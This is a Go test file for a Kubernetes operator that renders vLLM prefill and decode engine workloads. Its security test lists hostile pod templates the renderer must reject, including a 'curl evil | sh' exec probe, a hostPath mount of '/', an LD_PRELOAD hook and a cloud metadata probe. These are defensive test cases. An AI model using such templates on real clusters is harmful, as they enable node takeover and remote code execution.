package render

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/yaml"

	kvv1 "github.com/kvhandoff/kvhandoff/api/v1alpha1"
	"github.com/kvhandoff/kvhandoff/test/builder"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/ from the current output")

// pair renders a prefill pool and a decode pool that share policy.
func pair(t *testing.T, prefill *builder.PoolBuilder[*kvv1.PrefillPool], decode *builder.PoolBuilder[*kvv1.DecodePool],
	policy *builder.PolicyBuilder) (*Workload, *Workload) {
	t.Helper()
	return pairWith(t, prefill, decode, policy, "")
}

// pairWith is pair with both pools' kv-events sidecar run from kvEventsImage ("": none).
func pairWith(t *testing.T, prefill *builder.PoolBuilder[*kvv1.PrefillPool], decode *builder.PoolBuilder[*kvv1.DecodePool],
	policy *builder.PolicyBuilder, kvEventsImage string) (*Workload, *Workload) {
	t.Helper()
	pol := policy.Obj()
	p, d := prefill.Obj(), decode.Obj()
	// Each side gets the other's tensor-parallel size, as the controller gives it.
	pw, err := Engines(Input{Role: kvv1.RolePrefill, Name: p.Name, Namespace: p.Namespace, Spec: &p.Spec.EngineSpec, Policy: &pol.Spec,
		KVEventsImage: kvEventsImage, PeerTensorParallelSize: d.Spec.TensorParallelSize})
	if err != nil {
		t.Fatal(err)
	}
	dw, err := Engines(Input{Role: kvv1.RoleDecode, Name: d.Name, Namespace: d.Namespace, Spec: &d.Spec.EngineSpec, Policy: &pol.Spec,
		PrefillPool: d.Spec.PrefillPoolRef.Name, KVEventsImage: kvEventsImage, PeerTensorParallelSize: p.Spec.TensorParallelSize})
	if err != nil {
		t.Fatal(err)
	}
	return pw, dw
}

func TestGolden(t *testing.T) {
	cases := []struct {
		name    string
		prefill *builder.PoolBuilder[*kvv1.PrefillPool]
		decode  *builder.PoolBuilder[*kvv1.DecodePool]
		policy  *builder.PolicyBuilder
		// kvEvents renders the kv-events sidecar (the controller does under routing
		// PrefixAware with prefixSource KVEvents).
		kvEvents bool
	}{
		{
			name:    "p5en-push-tp8-1p1d",
			prefill: builder.PrefillPool("qwen3-32b-prefill").Policy("p5en-push").EngineArgs("--max-model-len", "32768"),
			decode:  builder.DecodePool("qwen3-32b-decode", "qwen3-32b-prefill").Policy("p5en-push").EngineArgs("--max-model-len", "32768"),
			policy:  builder.Policy("p5en-push"),
		},
		{
			name:    "p5en-pull-tp4-prefill-tp8-decode",
			prefill: builder.PrefillPool("prefill").TP(4).Replicas(2).Policy("pull"),
			decode:  builder.DecodePool("decode", "prefill").TP(8).Policy("pull"),
			policy:  builder.Policy("pull").Mode(kvv1.TransferPull).LoadFailurePolicy(kvv1.LoadFailureFail),
		},
		{
			name: "trn2-pull",
			prefill: builder.PrefillPool("llama-prefill").Model("meta-llama/Llama-3.3-70B-Instruct").Image("public.ecr.aws/neuron/vllm-neuronx:v0.29.0").
				TP(16).BlockSize(32).Accelerator(kvv1.AcceleratorNeuron, 4).InstanceType("trn2.48xlarge").Policy("trn2-pull"),
			decode: builder.DecodePool("llama-decode",
				"llama-prefill").Model("meta-llama/Llama-3.3-70B-Instruct").Image("public.ecr.aws/neuron/vllm-neuronx:v0.29.0").
				TP(16).BlockSize(32).Accelerator(kvv1.AcceleratorNeuron, 4).InstanceType("trn2.48xlarge").Policy("trn2-pull"),
			policy: builder.Policy("trn2-pull").Mode(kvv1.TransferPull).Hugepages2Mi("2Gi").Lease(60),
		},
		{
			name:    "executor-agent",
			prefill: builder.PrefillPool("prefill").Image("vllm/vllm-openai:v0.33.0").Policy("agent"),
			decode:  builder.DecodePool("decode", "prefill").Image("vllm/vllm-openai:v0.33.0").Policy("agent"),
			policy:  builder.Policy("agent").Executor(kvv1.ExecutorAgent).LayerStreaming(true),
		},
		{
			// Prefill scaled out at TP1 against TP4 decode: the connector pairs ranks by KV
			// heads (peer_tp_size), both sides lay KV out head by head (HND).
			name:    "executor-agent-tp1-prefill-tp4-decode",
			prefill: builder.PrefillPool("prefill").Image("vllm/vllm-openai:v0.33.0").TP(1).Policy("agent"),
			decode:  builder.DecodePool("decode", "prefill").Image("vllm/vllm-openai:v0.33.0").TP(4).Policy("agent"),
			policy:  builder.Policy("agent").Executor(kvv1.ExecutorAgent),
		},
		{
			name:    "p5en-same-node-prefer",
			prefill: builder.PrefillPool("prefill").Image("vllm/vllm-openai:v0.33.0").TP(4).Policy("nvlink"),
			decode:  builder.DecodePool("decode", "prefill").Image("vllm/vllm-openai:v0.33.0").TP(4).Policy("nvlink"),
			policy:  builder.Policy("nvlink").Executor(kvv1.ExecutorAgent).SameNode(kvv1.SameNodePrefer),
		},
		{
			// The mixed rollout: prefill still on the device plugins, decode by claim.
			name:    "p5en-dra-decode",
			prefill: builder.PrefillPool("prefill").Policy("push"),
			decode:  builder.DecodePool("decode", "prefill").DRA(nil).Policy("push"),
			policy:  builder.Policy("push"),
		},
		{
			name: "trn2-dra-pcie-switch",
			prefill: builder.PrefillPool("prefill").Image("public.ecr.aws/neuron/vllm-neuronx:v0.29.0").TP(4).
				Accelerator(kvv1.AcceleratorNeuron, 0).InstanceType("trn2.48xlarge").Policy("trn2").
				DRA(&kvv1.DRASpec{DeviceClassName: "neuron.kvhandoff.io", LocalityAttribute: "dra.kvhandoff.io/pcieSwitch"}),
			decode: builder.DecodePool("decode", "prefill").Image("public.ecr.aws/neuron/vllm-neuronx:v0.29.0").TP(4).
				Accelerator(kvv1.AcceleratorNeuron, 0).InstanceType("trn2.48xlarge").Policy("trn2").
				DRA(&kvv1.DRASpec{DeviceClassName: "neuron.kvhandoff.io", LocalityAttribute: "dra.kvhandoff.io/pcieSwitch"}),
			policy: builder.Policy("trn2").Mode(kvv1.TransferPull),
		},
		{
			name:     "kv-events",
			prefill:  builder.PrefillPool("prefill").Image("vllm/vllm-openai:v0.33.0").Policy("prefix"),
			decode:   builder.DecodePool("decode", "prefill").Image("vllm/vllm-openai:v0.33.0").Policy("prefix").EngineArgs("--served-model-name", "chat", "qwen"),
			policy:   builder.Policy("prefix").Executor(kvv1.ExecutorAgent),
			kvEvents: true,
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			image := ""
			if c.kvEvents {
				image = DefaultRouterImage
			}
			pw, dw := pairWith(t, c.prefill, c.decode, c.policy, image)
			var out bytes.Buffer
			objs := []any{pw.StatefulSet, pw.Service, pw.PDB, dw.StatefulSet, dw.Service, dw.PDB}
			if c.kvEvents {
				objs = append(objs, pw.KVEventsNetworkPolicy, dw.KVEventsNetworkPolicy)
			}
			for _, w := range []*Workload{pw, dw} {
				for _, c := range w.DeviceClaims {
					objs = append(objs, c)
				}
			}
			for _, obj := range objs {
				data, err := yaml.Marshal(obj)
				if err != nil {
					t.Fatal(err)
				}
				out.WriteString("---\n")
				out.Write(data)
			}
			checkGolden(t, c.name, out.Bytes())
		})
	}
}

// checkGolden compares rendered YAML with testdata/<name>.golden.yaml.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	golden := filepath.Join("testdata", name+".golden.yaml")
	if *update {
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test ./internal/render -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("rendered objects differ from %s; if the change is intended, run go test ./internal/render -update and review the diff.\n%s",
			golden, lineDiff(string(want), string(got)))
	}
}

// lineDiff shows the first lines where got departs from want.
func lineDiff(want, got string) string {
	w, g := strings.Split(want, "\n"), strings.Split(got, "\n")
	for i := 0; i < len(w) || i < len(g); i++ {
		var wl, gl string
		if i < len(w) {
			wl = w[i]
		}
		if i < len(g) {
			gl = g[i]
		}
		if wl != gl {
			return "line " + strconv.Itoa(i+1) + ":\n  want: " + wl + "\n  got:  " + gl
		}
	}
	return ""
}

func engine(w *Workload) corev1.Container { return w.StatefulSet.Spec.Template.Spec.Containers[0] }

func argAfter(args []string, flag string) string {
	for i, a := range args {
		if a == flag && i+1 < len(args) {
			return args[i+1]
		}
	}
	return ""
}

func TestKVTransferConfigIsJSONOnceTheKubeletExpandsIt(t *testing.T) {
	pw, dw := pair(t, builder.PrefillPool("p"), builder.DecodePool("d", "p"), builder.Policy("push").Lease(45).RegistrationTimeout(300).BlocksTTL(120).LoadFailurePolicy(kvv1.LoadFailureRecompute))
	for _, w := range []*Workload{pw, dw} {
		raw := argAfter(engine(w).Args, "--kv-transfer-config")
		expanded := strings.NewReplacer("$(POD_NAME)", w.StatefulSet.Name+"-0", "$(POD_NAMESPACE)", "ns").Replace(raw)
		var cfg map[string]any
		if err := json.Unmarshal([]byte(expanded), &cfg); err != nil {
			t.Fatalf("--kv-transfer-config %q is not JSON: %v", expanded, err)
		}
		want := map[string]any{
			"kv_connector":           "NixlPushConnector",
			"kv_role":                "kv_both",
			"engine_id":              w.StatefulSet.Name + "-0.ns",
			"kv_buffer_device":       "cuda",
			"kv_load_failure_policy": "recompute",
			"kv_connector_extra_config": map[string]any{
				"backends":                  []any{"LIBFABRIC"},
				"kv_lease_duration":         float64(45),
				"push_registration_timeout": float64(300),
				"decoder_kv_blocks_ttl":     float64(120),
			},
		}
		if got, _ := json.Marshal(cfg); string(got) != mustJSON(want) {
			t.Errorf("kv-transfer-config = %s, want %s", got, mustJSON(want))
		}
	}
}

func mustJSON(v any) string { b, _ := json.Marshal(v); return string(b) }

func TestPullHasNoRegistrationTimeout(t *testing.T) {
	pw, _ := pair(t, builder.PrefillPool("p"), builder.DecodePool("d", "p"), builder.Policy("pull").Mode(kvv1.TransferPull).Backend(kvv1.BackendUCX))
	cfg := argAfter(engine(pw).Args, "--kv-transfer-config")
	if strings.Contains(cfg, "push_registration_timeout") || !strings.Contains(cfg,
		`"kv_connector":"NixlConnector"`) || !strings.Contains(cfg, `"backends":["UCX"]`) {
		t.Errorf("pull config = %s", cfg)
	}
}

func TestUserEnvReplacesRenderedEnvInPlace(t *testing.T) {
	p := builder.PrefillPool("p").Obj()
	p.Spec.Env = []corev1.EnvVar{{Name: "FI_EFA_ENABLE_SHM_TRANSFER", Value: "1"}, {Name: "HF_HOME", Value: "/models"}}
	pol := builder.Policy("push").Obj()
	w, err := Engines(Input{Role: kvv1.RolePrefill, Name: "p", Namespace: "ns", Spec: &p.Spec.EngineSpec, Policy: &pol.Spec})
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]int{}
	for _, e := range engine(w).Env {
		seen[e.Name]++
		if e.Name == "FI_EFA_ENABLE_SHM_TRANSFER" && e.Value != "1" {
			t.Errorf("user value did not replace the rendered one: %v", e)
		}
	}
	for name, n := range seen {
		if n != 1 {
			t.Errorf("%s appears %d times", name, n)
		}
	}
	if seen["HF_HOME"] != 1 {
		t.Error("user variable missing")
	}
}

func TestTemplateMergesIntoTheEngineContainerByName(t *testing.T) {
	p := builder.PrefillPool("p").Template(`{"spec": {
		"priorityClassName": "inference",
		"nodeSelector": {"topology.kubernetes.io/zone": "us-east-2a"},
		"containers": [
			{"name": "engine", "resources": {"requests": {"cpu": "32"}}},
			{"name": "sidecar", "image": "busybox"}]}}`).Obj()
	pol := builder.Policy("push").Obj()
	w, err := Engines(Input{Role: kvv1.RolePrefill, Name: "p", Namespace: "ns", Spec: &p.Spec.EngineSpec, Policy: &pol.Spec})
	if err != nil {
		t.Fatal(err)
	}
	spec := w.StatefulSet.Spec.Template.Spec
	if spec.PriorityClassName != "inference" || len(spec.Containers) != 2 {
		t.Fatalf("template not merged: priority %q, %d containers", spec.PriorityClassName, len(spec.Containers))
	}
	if spec.NodeSelector["topology.kubernetes.io/zone"] != "us-east-2a" || spec.NodeSelector["node.kubernetes.io/instance-type"] != "p5en.48xlarge" {
		t.Errorf("node selectors not merged by key: %v", spec.NodeSelector)
	}
	e := spec.Containers[0]
	if e.Image != builder.Image || len(e.Args) == 0 {
		t.Error("merging the template dropped the rendered engine fields")
	}
	if cpu := e.Resources.Requests[corev1.ResourceCPU]; cpu.String() != "32" {
		t.Errorf("cpu request = %s, want 32", cpu.String())
	}
	if gpu := e.Resources.Requests[ResourceNvidiaGPU]; gpu.String() != "8" {
		t.Errorf("gpu request = %s, want the rendered 8 kept", gpu.String())
	}
}

func TestTemplateWithUnknownFieldsIsRefusedNamingThem(t *testing.T) {
	p := builder.PrefillPool("p").Template(`{"spec": {"nodeSelecter": {"a": "b"}}}`).Obj()
	pol := builder.Policy("push").Obj()
	_, err := Engines(Input{Role: kvv1.RolePrefill, Name: "p", Namespace: "ns", Spec: &p.Spec.EngineSpec, Policy: &pol.Spec})
	var prob *TemplateError
	if !errors.As(err, &prob) || !strings.Contains(prob.Message, `unknown field "spec.nodeSelecter"`) {
		t.Fatalf("err = %v, want InvalidTemplate naming spec.nodeSelecter", err)
	}
}

// Whoever may write a pool must not own the node through its template: every way into
// the node found when the template merged anything is refused, naming the field.
func TestTemplateCannotReachTheNodeOrRewireTheEngine(t *testing.T) {
	pol := builder.Policy("agent").Executor(kvv1.ExecutorAgent).Obj()
	for _, c := range []struct{ name, template, want string }{
		{"privileged engine", `{"spec": {"containers": [{"name": "engine", "securityContext": {"privileged": true}}]}}`,
			"spec.template.spec.containers[0].securityContext: the engine container's securityContext is not the template's"},
		{"root pod", `{"spec": {"securityContext": {"runAsUser": 0}}}`, "spec.template.spec.securityContext.runAsUser: not allowed"},
		{"host network", `{"spec": {"hostNetwork": true}}`, "spec.template.spec.hostNetwork: not allowed"},
		{"host IPC", `{"spec": {"hostIPC": true}}`, "spec.template.spec.hostIPC: not allowed"},
		{"host PID", `{"spec": {"hostPID": true}}`, "spec.template.spec.hostPID: not allowed"},
		{"a node of one's choosing", `{"spec": {"nodeName": "p5en-7"}}`, "spec.template.spec.nodeName: not allowed"},
		{"the agent's volume repointed at /", `{"spec": {"volumes": [{"name": "kvhandoff-agent", "hostPath": {"path": "/"}}]}}`,
			`spec.template.spec.volumes[0]: volume "kvhandoff-agent" is kvhandoff's`},
		{"a hostPath of its own", `{"spec": {"volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}`,
			"spec.template.spec.volumes[0].hostPath: not allowed"},
		{"a sidecar mounting the socket folder", `{"spec": {"containers": [{"name": "tap", "image": "busybox",
			"volumeMounts": [{"name": "kvhandoff-agent", "mountPath": "/s"}]}]}}`,
			`spec.template.spec.containers[0].volumeMounts[0]: volume "kvhandoff-agent" is kvhandoff's`},
		{"a privileged sidecar", `{"spec": {"containers": [{"name": "tap", "image": "busybox", "securityContext": {"privileged": true}}]}}`,
			"spec.template.spec.containers[0].securityContext.privileged: not allowed"},
		{"a root sidecar", `{"spec": {"containers": [{"name": "tap", "image": "busybox", "securityContext": {"runAsUser": 0}}]}}`,
			"spec.template.spec.containers[0].securityContext.runAsUser: not allowed"},
		{"a sidecar adding capabilities", `{"spec": {"containers": [{"name": "tap", "image": "busybox",
			"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}]}}`, "securityContext.capabilities.add: not allowed"},
		{"a sidecar taking the GPUs", `{"spec": {"containers": [{"name": "tap", "image": "busybox", "resources": {"limits": {"nvidia.com/gpu": 8}}}]}}`,
			"spec.template.spec.containers[0].resources.limits[nvidia.com/gpu]: set by kvhandoff"},
		{"a swapped connector image", `{"spec": {"initContainers": [{"name": "kvhandoff-connector", "image": "evil/connector"}]}}`,
			`spec.template.spec.initContainers[0]: container "kvhandoff-connector" is kvhandoff's`},
		{"the engine's image", `{"spec": {"containers": [{"name": "engine", "image": "vllm/vllm-openai:v0.1.0"}]}}`,
			"containers[0].image: the engine container's image is not the template's: spec.image is what runs"},
		{"the engine's args", `{"spec": {"containers": [{"name": "engine", "args": ["Qwen/Qwen3-32B"]}]}}`,
			"containers[0].args: the engine container's args is not the template's"},
		{"the engine's command", `{"spec": {"containers": [{"name": "engine", "command": ["python3", "-m", "my.server"]}]}}`,
			"containers[0].command: the engine container's command is not the template's"},
		{"another engine's identity", `{"spec": {"containers": [{"name": "engine", "env": [{"name": "POD_NAME", "value": "someone-else"}]}]}}`,
			"containers[0].env[0]: POD_NAME is set by kvhandoff"},
		{"the connector's path", `{"spec": {"containers": [{"name": "engine", "env": [{"name": "PYTHONPATH", "value": "/evil"}]}]}}`,
			"containers[0].env[0]: PYTHONPATH is set by kvhandoff"},
		{"envFrom on the engine", `{"spec": {"containers": [{"name": "engine", "envFrom": [{"configMapRef": {"name": "x"}}]}]}}`,
			"spec.template.spec.containers[0].envFrom: not allowed"},
		{"the engine's mount of the socket folder", `{"spec": {"containers": [{"name": "engine",
			"volumeMounts": [{"name": "cache", "mountPath": "/var/run/kvhandoff"}]}]}}`,
			"containers[0].volumeMounts[0]: /var/run/kvhandoff is where kvhandoff mounts a volume"},
		// Pod Security baseline's controls, and ways to run code in the engine container.
		{"a host port", `{"spec": {"containers": [{"name": "engine", "ports": [{"containerPort": 22, "hostPort": 22}]}]}}`,
			"spec.template.spec.containers[0].ports[0].hostPort: not allowed"},
		{"a sidecar on the kubelet's port", `{"spec": {"containers": [{"name": "tap", "image": "busybox", "ports": [{"containerPort": 10250, "hostPort": 10250}]}]}}`,
			"spec.template.spec.containers[0].ports[0].hostPort: not allowed"},
		{"no seccomp profile", `{"spec": {"securityContext": {"seccompProfile": {"type": "Unconfined"}}}}`,
			"spec.template.spec.securityContext.seccompProfile: may only be {type: RuntimeDefault} or {type: Localhost"},
		{"no AppArmor profile", `{"metadata": {"annotations": {"container.apparmor.security.beta.kubernetes.io/engine": "unconfined"}}}`,
			"spec.template.metadata.annotations[container.apparmor.security.beta.kubernetes.io/engine]: may only be runtime/default"},
		{"root's group on the volumes", `{"spec": {"securityContext": {"fsGroup": 0}}}`,
			"spec.template.spec.securityContext.fsGroup: may not be 0"},
		{"a grace without bound", `{"spec": {"terminationGracePeriodSeconds": 31536000}}`,
			"spec.template.spec.terminationGracePeriodSeconds: 31536000: must be 0 to 3600"},
		{"a system priority", `{"spec": {"priorityClassName": "system-node-critical"}}`,
			"spec.template.spec.priorityClassName: system-node-critical is for the cluster's own components"},
		{"an exec probe on the engine", `{"spec": {"containers": [{"name": "engine", "livenessProbe": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}}]}}`,
			"spec.template.spec.containers[0].livenessProbe.exec: not allowed in the engine container"},
		{"an exec hook on the engine", `{"spec": {"containers": [{"name": "engine", "lifecycle": {"postStart": {"exec": {"command": ["sh"]}}}}]}}`,
			"spec.template.spec.containers[0].lifecycle.postStart.exec: not allowed in the engine container"},
		{"a probe of another host", `{"spec": {"containers": [{"name": "tap", "image": "busybox", "readinessProbe": {"httpGet": {"host": "169.254.169.254", "port": 80}}}]}}`,
			"spec.template.spec.containers[0].readinessProbe.httpGet.host: not allowed"},
		{"a preloaded library", `{"spec": {"containers": [{"name": "engine", "env": [{"name": "LD_PRELOAD", "value": "/models/hook.so"}]}]}}`,
			"containers[0].env[0]: LD_PRELOAD would load code of its choosing into the engine"},
		{"the socket folder with a slash", `{"spec": {"containers": [{"name": "engine",
			"volumeMounts": [{"name": "cache", "mountPath": "/var/run/kvhandoff/"}]}]}}`,
			"containers[0].volumeMounts[0]: /var/run/kvhandoff is where kvhandoff mounts a volume"},
		{"a mount inside the connector's folder", `{"spec": {"containers": [{"name": "engine",
			"volumeMounts": [{"name": "cache", "mountPath": "` + ConnectorDir + `/kvhandoff_vllm"}]}]}}`,
			"containers[0].volumeMounts[0]: " + ConnectorDir + "/kvhandoff_vllm is where kvhandoff mounts a volume, or over or inside one"},
		{"a mount over the socket folder", `{"spec": {"containers": [{"name": "engine",
			"volumeMounts": [{"name": "cache", "mountPath": "/var/run"}]}]}}`,
			"containers[0].volumeMounts[0]: /var/run is where kvhandoff mounts a volume, or over or inside one"},
		{"removing the engine", `{"spec": {"containers": [{"name": "engine", "$patch": "delete"}]}}`,
			`unknown field "spec.containers[0].$patch"`},
		{"replacing the node selector", `{"spec": {"nodeSelector": {"$patch": "replace", "zone": "a"}}}`,
			"spec.template.spec.nodeSelector[$patch]: strategic-merge directives are not allowed"},
		{"the agent-ready selector", `{"spec": {"nodeSelector": {"kvhandoff.io/agent-ready": "false"}}}`,
			"spec.template.spec.nodeSelector[kvhandoff.io/agent-ready]: set by kvhandoff"},
		{"the pool's labels", `{"metadata": {"labels": {"kvhandoff.io/role": "decode"}}}`,
			"spec.template.metadata.labels[kvhandoff.io/role]: set by kvhandoff"},
	} {
		p := builder.PrefillPool("p").Image("vllm/vllm-openai:v0.33.0").Policy("agent").Template(c.template).Obj()
		_, err := Engines(Input{Role: kvv1.RolePrefill, Name: "p", Namespace: "ns", Spec: &p.Spec.EngineSpec, Policy: &pol.Spec})
		var prob *TemplateError
		if !errors.As(err, &prob) || !strings.Contains(prob.Message, c.want) {
			t.Errorf("%s: err = %v, want InvalidTemplate saying %q", c.name, err, c.want)
		}
	}
	// What the template is for passes.
	p := builder.PrefillPool("p").Image("vllm/vllm-openai:v0.33.0").Policy("agent").Template(`{
		"metadata": {"labels": {"team": "search"}, "annotations": {"prometheus.io/scrape": "true"}},
		"spec": {
			"priorityClassName": "inference", "serviceAccountName": "engines", "runtimeClassName": "nvidia",
			"securityContext": {"fsGroup": 1000},
			"tolerations": [{"key": "dedicated", "operator": "Exists"}],
			"volumes": [{"name": "models", "persistentVolumeClaim": {"claimName": "models"}}],
			"containers": [
				{"name": "engine", "env": [{"name": "VLLM_LOGGING_LEVEL", "value": "DEBUG"}], "imagePullPolicy": "Always",
				 "resources": {"limits": {"memory": "900Gi"}}, "volumeMounts": [{"name": "models", "mountPath": "/models"}]},
				{"name": "log-shipper", "image": "fluent/fluent-bit", "volumeMounts": [{"name": "models", "mountPath": "/m", "readOnly": true}],
				 "securityContext": {"runAsNonRoot": true, "allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]},
				 "seccompProfile": {"type": "RuntimeDefault"}}}]}}`).Obj()
	out, err := Engines(Input{Role: kvv1.RolePrefill, Name: "p", Namespace: "ns", Spec: &p.Spec.EngineSpec, Policy: &pol.Spec})
	if err != nil {
		t.Fatalf("a template doing what templates are for: %v", err)
	}
	// The user's toleration adds to the GPU's: replacing it would leave the pod no GPU node.
	tols := out.StatefulSet.Spec.Template.Spec.Tolerations
	for _, key := range []string{"dedicated", "nvidia.com/gpu"} {
		if !slices.ContainsFunc(tols, func(t corev1.Toleration) bool { return t.Key == key }) {
			t.Errorf("engine pod tolerations %v lack %s", tols, key)
		}
	}
}

func TestRenderRefusesWhatCompatRefuses(t *testing.T) {
	p := builder.PrefillPool("p").InstanceType("").Obj()
	pol := builder.Policy("push").Obj()
	if _, err := Engines(Input{Role: kvv1.RolePrefill, Name: "p", Namespace: "ns", Spec: &p.Spec.EngineSpec, Policy: &pol.Spec}); err == nil {
		t.Fatal("rendered EFA engines without knowing how many EFA interfaces to request")
	}
}

// The agent's DaemonSet and the engine pods must agree on the group that reaches the
// agent's socket: one constant here, one flag in config/agent.
func TestEnginesOfTheAgentExecutorJoinTheAgentsGroup(t *testing.T) {
	_, dw := pair(t, builder.PrefillPool("p").Image("vllm/vllm-openai:v0.33.0").Policy("agent"),
		builder.DecodePool("d", "p").Image("vllm/vllm-openai:v0.33.0").Policy("agent"), builder.Policy("agent").Executor(kvv1.ExecutorAgent))
	if sc := dw.StatefulSet.Spec.Template.Spec.SecurityContext; sc == nil || !slices.Contains(sc.SupplementalGroups, AgentGroup) {
		t.Errorf("engine pod security context %+v lacks the agent's group %d", sc, AgentGroup)
	}
	ds, err := os.ReadFile(filepath.Join("..", "..", "config", "agent", "daemonset.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	for _, flag := range []string{"--socket-gid=" + strconv.Itoa(AgentGroup), "--peer-listen=:" + strconv.Itoa(AgentPeerPort)} {
		if !strings.Contains(string(ds), flag) {
			t.Errorf("config/agent/daemonset.yaml does not pass %s", flag)
		}
	}
}

// TestDecodePlacementFollowsSameNode checks each sameNode value against each kind of
// provider: which node rules a decode pod gets, and whether engines share the host's PID
// namespace (CUDA IPC needs it for pairs that may share a node).
func TestDecodePlacementFollowsSameNode(t *testing.T) {
	cases := []struct {
		sameNode            kvv1.SameNodePolicy
		provider            kvv1.FabricProvider
		zone, avoid, prefer bool
	}{
		{kvv1.SameNodeForbid, kvv1.ProviderEFA, true, true, false},
		{kvv1.SameNodeAllow, kvv1.ProviderEFA, true, false, false},
		{kvv1.SameNodePrefer, kvv1.ProviderEFA, true, false, true},
		{kvv1.SameNodeForbid, kvv1.ProviderTCP, false, false, false},
		{kvv1.SameNodeAllow, kvv1.ProviderTCP, false, false, false},
		{kvv1.SameNodePrefer, kvv1.ProviderTCP, false, false, true},
	}
	for _, c := range cases {
		t.Run(string(c.sameNode)+"/"+string(c.provider), func(t *testing.T) {
			image := "vllm/vllm-openai:v0.33.0"
			pw, dw := pair(t, builder.PrefillPool("p").Image(image).Policy("x"), builder.DecodePool("d", "p").Image(image).Policy("x"),
				builder.Policy("x").Executor(kvv1.ExecutorAgent).Provider(c.provider).SameNode(c.sameNode))
			pod := dw.StatefulSet.Spec.Template.Spec
			var zone, avoid, prefer bool
			if a := pod.Affinity; a != nil {
				if a.PodAffinity != nil {
					zone = len(a.PodAffinity.RequiredDuringSchedulingIgnoredDuringExecution) == 1 &&
						a.PodAffinity.RequiredDuringSchedulingIgnoredDuringExecution[0].TopologyKey == labelZone
					prefer = len(a.PodAffinity.PreferredDuringSchedulingIgnoredDuringExecution) == 1 &&
						a.PodAffinity.PreferredDuringSchedulingIgnoredDuringExecution[0].PodAffinityTerm.TopologyKey == labelHostname
				}
				avoid = a.PodAntiAffinity != nil && a.PodAntiAffinity.RequiredDuringSchedulingIgnoredDuringExecution[0].TopologyKey == labelHostname
			}
			if zone != c.zone || avoid != c.avoid || prefer != c.prefer {
				t.Errorf("decode affinity %+v: zone %v, avoids prefill's nodes %v, prefers them %v; want %v, %v, %v", pod.Affinity,
					zone, avoid, prefer, c.zone, c.avoid, c.prefer)
			}
			// GPU memory reaches the agent as file descriptors: no engine needs the
			// host's PID namespace, same-node pairs included.
			if pod.HostPID || pw.StatefulSet.Spec.Template.Spec.HostPID {
				t.Errorf("hostPID: decode %v, prefill %v; want neither", pod.HostPID, pw.StatefulSet.Spec.Template.Spec.HostPID)
			}
		})
	}
	ds, err := os.ReadFile(filepath.Join("..", "..", "config", "agent", "daemonset.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(ds), "hostPID: true") {
		t.Error("config/agent/daemonset.yaml does not run the agent in the host's PID namespace, where it reads its callers' cgroups")
	}
}

// Engines of executor Agent run non-root, in the socket group, with the socket folder
// mounted read-only: a root engine could replace the node's sockets. runAsRoot opts out.
func TestAgentEnginesRunNonRootWithTheSocketsReadOnly(t *testing.T) {
	pol := builder.Policy("agent").Executor(kvv1.ExecutorAgent).Obj()
	for _, root := range []bool{false, true} {
		p := builder.PrefillPool("p").Image("vllm/vllm-openai:v0.33.0").RunAsRoot(root).Obj()
		w, err := Engines(Input{Role: kvv1.RolePrefill, Name: "p", Namespace: "ns", Spec: &p.Spec.EngineSpec, Policy: &pol.Spec})
		if err != nil {
			t.Fatal(err)
		}
		spec := w.StatefulSet.Spec.Template.Spec
		sc := spec.SecurityContext
		if nonRoot := sc.RunAsNonRoot != nil && *sc.RunAsNonRoot && sc.RunAsUser != nil && *sc.RunAsUser == EngineUser("ns", "p", kvv1.RolePrefill); nonRoot == root {
			t.Errorf("runAsRoot %v: pod security context %+v", root, sc)
		}
		if !slices.Contains(sc.SupplementalGroups, AgentGroup) {
			t.Errorf("runAsRoot %v: engines are not in the socket group %d", root, AgentGroup)
		}
		for _, m := range spec.Containers[0].VolumeMounts {
			if m.Name == "kvhandoff-agent" && !m.ReadOnly {
				t.Errorf("runAsRoot %v: the agent's socket folder is mounted read-write", root)
			}
		}
	}
}

// CPU engines (vLLM's CPU backend) request no device and get no accelerator taint
// toleration, and with a policy that lets pairs share a node they stay in their own PID
// namespace: only CUDA IPC needs the host's.
func TestCPUEnginesRequestNoDevice(t *testing.T) {
	p := builder.PrefillPool("p").InstanceType("").Accelerator(kvv1.AcceleratorCPU, 0).Obj()
	pol := builder.Policy("tcp").Provider(kvv1.ProviderTCP).Executor(kvv1.ExecutorAgent).SameNode(kvv1.SameNodeAllow).Obj()
	p.Spec.Image = "vllm/vllm-openai:v0.33.0"
	w, err := Engines(Input{Role: kvv1.RolePrefill, Name: "p", Namespace: "ns", Spec: &p.Spec.EngineSpec, Policy: &pol.Spec})
	if err != nil {
		t.Fatal(err)
	}
	spec := w.StatefulSet.Spec.Template.Spec
	if r := spec.Containers[0].Resources; len(r.Limits)+len(r.Requests) != 0 {
		t.Errorf("CPU engine resources %v", r)
	}
	if len(spec.Tolerations) != 0 || spec.HostPID {
		t.Errorf("CPU engines: tolerations %v, hostPID %v", spec.Tolerations, spec.HostPID)
	}
}

// Each pool's engines run as a user of its own: the prefill and decode pools of a pair,
// and pools of the same name in two namespaces, never share a uid (before, every
// executor-Agent engine on every node ran as 1000), and a pool keeps its uid across renders.
func TestEachPoolRunsAsAUserOfItsOwn(t *testing.T) {
	pol := builder.Policy("agent").Executor(kvv1.ExecutorAgent).Obj()
	uid := func(role kvv1.Role, ns, name string) int64 {
		p := builder.PrefillPool(name).Image("vllm/vllm-openai:v0.33.0").Obj()
		w, err := Engines(Input{Role: role, Name: name, Namespace: ns, Spec: &p.Spec.EngineSpec, Policy: &pol.Spec})
		if err != nil {
			t.Fatal(err)
		}
		u := *w.StatefulSet.Spec.Template.Spec.SecurityContext.RunAsUser
		if u < 1<<20 {
			t.Errorf("%s/%s runs as uid %d, among the host's and images' users", ns, name, u)
		}
		return u
	}
